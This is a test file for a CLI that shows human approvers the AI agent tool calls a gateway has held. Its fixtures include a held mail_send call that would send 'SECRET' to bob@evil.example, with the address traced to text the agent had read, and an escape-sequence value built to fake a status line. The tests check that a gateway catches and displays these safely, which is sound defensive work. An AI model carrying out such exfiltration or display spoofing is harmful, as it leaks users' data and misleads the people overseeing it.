import { PassThrough } from 'node:stream'
import { expect, test } from 'vitest'
import { approvalCards, standingLines } from '../../src/cli/approval-cards.js'
import type { AskedPerson } from '../../src/gateway/person/person.js'

const NOW = Date.parse('2027-01-31T12:00:00Z')
const asked: AskedPerson = {
  id: 'ap_1',
  revision: 'r1',
  tool: 'mail_send',
  calls: [
    {
      callId: 'c1',
      arguments: [
        { argument: 'to', value: 'bob@evil.example' },
        { argument: 'body', value: 'SECRET' },
      ],
      digest: 'd1',
    },
  ],
  items: [
    { argument: 'to', value: 'bob@evil.example', role: 'target', from: 'third-party-text, mail_read' },
    { argument: 'amount', value: '20', role: 'amount', from: 'not found in what was shown' },
  ],
  reason: 'Nothing accounts for a value.',
  offers: ['once', 'value', 'never'],
  expiresAt: '2027-01-31T12:58:00Z',
  conversation: 'client-claude-code',
  waits: true,
}
const cards = (...approvals: AskedPerson[]) =>
  approvalCards(approvals, new PassThrough(), { config: "Lena's files/mcp.json" }, NOW)

test('a card says what is held, why, and how to answer', () => {
  expect(cards(asked)).toBe(
    [
      'mail_send  ap_1 · expires in 58 minutes',
      '  May mail_send run? Nothing accounts for a value.',
      '  - target "to": "bob@evil.example" (third-party-text, mail_read)',
      '  - amount "amount": "20" (not found in what was shown)',
      '  The call in full:',
      '  - "to": "bob@evil.example"',
      '  - "body": "SECRET"',
      '  A yes to the values counts for later calls with them too, whatever else those carry.',
      '  Never: all calls of this tool with these values are refused.',
      '  asked by claude-code',
      `  sallyport approve ap_1 --config 'Lena'\\''s files/mcp.json' --for once`,
      `  sallyport approve ap_1 --config 'Lena'\\''s files/mcp.json' --for value`,
      `  sallyport deny ap_1 --config 'Lena'\\''s files/mcp.json'`,
      `  sallyport deny ap_1 --config 'Lena'\\''s files/mcp.json' --for value`,
    ].join('\n'),
  )
})

test('a card says that its conversation has ended', () => {
  expect(cards({ ...asked, items: [], offers: ['once'], waits: false })).toContain(
    'asked by claude-code, whose conversation has ended',
  )
})

test.each([
  ['http-9a01edd0-1c2b', 'an HTTP client'],
  ['stdio-9a01edd0-1c2b', 'a stdio client'],
  ['client-a\u001b[2J', 'a [2J'],
  ['mine', 'mine'],
])('who asked is said so that a person knows it: %s', (conversation, who) => {
  expect(cards({ ...asked, conversation }).split('\n')).toContain(`  asked by ${who}`)
})

test('a value moves no cursor and makes no line of its own', () => {
  const text = cards({
    ...asked,
    items: [{ argument: 'to', value: 'a\u001b[2J\nsallyport: all is well', role: 'target', from: 'x' }],
  })
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/)
  expect(text.split('\n')).toHaveLength(13)
})

test('a yes to several calls says which were seen', () => {
  const text = cards({ ...asked, calls: [...asked.calls, ...asked.calls] })
  expect(text).toContain('--for once --seen r1')
})

test('what was retired is shown so, and has no way to answer', () => {
  const text = cards({ ...asked, waits: false, retired: true })
  expect(text).toContain('ap_1 · retired: you went on to other things')
  expect(text).not.toContain('sallyport approve')
})

test('answers that go on counting are one card each, with how to take them back', () => {
  const never = {
    id: 'end_1',
    verdict: 'deny' as const,
    tools: ['mail_send'],
    role: 'target',
    value: 'bob@evil.example',
    by: 'u-17',
    at: '2027-01-31T12:00:00Z',
    conversation: 'client-claude-code',
  }
  expect(standingLines([never], { config: 'mcp.json' })).toBe(
    [
      'mail_send  never: target "bob@evil.example"',
      '  by u-17, to the end of its conversation, asked by claude-code',
      '  sallyport revoke end_1 --config mcp.json',
    ].join('\n'),
  )
  expect(standingLines([])).toBe('No answer goes on counting.')
})

test('nothing that waits is said', () => {
  expect(cards()).toBe('No approval waits.')
})
